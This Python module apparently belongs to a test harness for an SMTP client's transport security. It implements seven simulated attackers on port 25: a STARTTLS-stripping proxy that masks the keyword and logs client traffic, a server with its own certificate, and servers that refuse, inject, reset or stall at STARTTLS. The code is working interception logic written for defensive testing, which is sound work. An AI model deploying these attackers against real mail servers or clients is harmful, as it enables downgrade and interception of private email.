"""
attack - who sits at an MX host's address, or on the way to it, and does not want the mail sealed. Each is a thread that listens on port 25.

    strip    passes everything to the real server, and masks STARTTLS in its replies                      (A3)
    owncert  a server of the attacker's own, with a certificate of his own: takes and reads all mail      (A80)
    refuse   offers STARTTLS and answers 454 to it; would take the mail in clear                          (A5)
    inject   says 220 to STARTTLS and, in the same segment, replies that nobody asked for                 (A27)
    reset    says 220 to STARTTLS and resets the connection at the ClientHello                            (A19)
    hole     says 220 to STARTTLS and then nothing                                                        (A18)
    drift    offers CHUNKING and 8BITMIME in clear, neither inside TLS                                    (A21)

`heard` is every byte of clients that he could read, in clear or by his own TLS: what must never hold a protected message.
"""
import contextlib
import socket
import ssl
import struct
import threading

import net

KINDS = ('strip', 'owncert', 'refuse', 'inject', 'reset', 'hole', 'drift')


class Attacker:
    def __init__(self, kind, namespace, at, pair, upstream):
        self.kind, self.namespace, self.upstream, self._heard = kind, namespace, upstream, []
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.tls.load_cert_chain(pair.chain, pair.key)
        self.listener = net.listener(namespace, at, 25)
        _thread(self._accept)

    def heard(self):
        return b''.join(self._heard)

    def _accept(self):
        while True:
            near, _ = self.listener.accept()
            near.settimeout(60)
            _thread(self._strip if self.kind == 'strip' else self._serve, near)

    # ---- the one in the middle
    def _strip(self, near):
        far = net.tcp(self.namespace)
        far.settimeout(60)
        far.connect((self.upstream, 25))
        _thread(self._pump, near, far, lambda data: self._heard.append(data) or data)
        self._pump(far, near, lambda data: data.replace(b'STARTTLS', b'XXXXXXXX'))

    @staticmethod
    def _pump(source, sink, change):
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                sink.sendall(change(data))
        for each in (source, sink):
            with contextlib.suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)

    # ---- those who play the server
    def _serve(self, near):
        with contextlib.suppress(OSError, ssl.SSLError):
            self._session(near)
        near.close()

    def _session(self, near):
        near.sendall(b'220 mx.attacker.zz ESMTP\r\n')
        lines, data = self._lines(near), False
        while (line := next(lines, None)) is not None:
            verb = line.strip().upper()
            if data:
                data = line.rstrip(b'\r\n') != b'.'
                if not data:
                    near.sendall(b'250 2.0.0 taken\r\n')
            elif verb == b'STARTTLS':
                near = self._starttls(near)
                lines = self._lines(near)
            elif verb.startswith(b'EHLO'):
                near.sendall(self._ehlo(isinstance(near, ssl.SSLSocket)))
            elif verb == b'DATA':
                data = True
                near.sendall(b'354 go on\r\n')
            elif verb == b'QUIT':
                near.sendall(b'221 bye\r\n')
                return
            else:
                near.sendall(b'250 2.0.0 ok\r\n')

    def _lines(self, near):
        pending = b''
        while data := near.recv(65536):
            self._heard.append(data)
            pending += data
            while b'\n' in pending:
                line, pending = pending.split(b'\n', 1)
                yield line + b'\n'

    def _ehlo(self, sealed):
        words = ['mx.attacker.zz', 'PIPELINING', 'SIZE 60000000']
        if not sealed:
            words.append('STARTTLS')
        if not (sealed and self.kind == 'drift'):
            words += ['8BITMIME', 'CHUNKING']
        return b''.join(f'250{"-" if each is not words[-1] else " "}{each}\r\n'.encode() for each in words)

    def _starttls(self, near):
        if self.kind == 'refuse':
            near.sendall(b'454 4.7.0 TLS not available\r\n')
        elif self.kind == 'inject':
            near.sendall(b'220 go ahead\r\n250 mx.attacker.zz\r\n250 ok\r\n250 ok\r\n354 go on\r\n250 delivered\r\n')
        else:
            near.sendall(b'220 go ahead\r\n')
        if self.kind == 'reset':
            near.recv(1)
            near.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
            raise OSError('reset')
        if self.kind == 'hole':
            while near.recv(65536):
                pass
        if self.kind in ('owncert', 'drift'):
            return self.tls.wrap_socket(near, server_side=True)
        return near


def _thread(target, *arguments):
    threading.Thread(target=target, args=arguments, daemon=True).start()
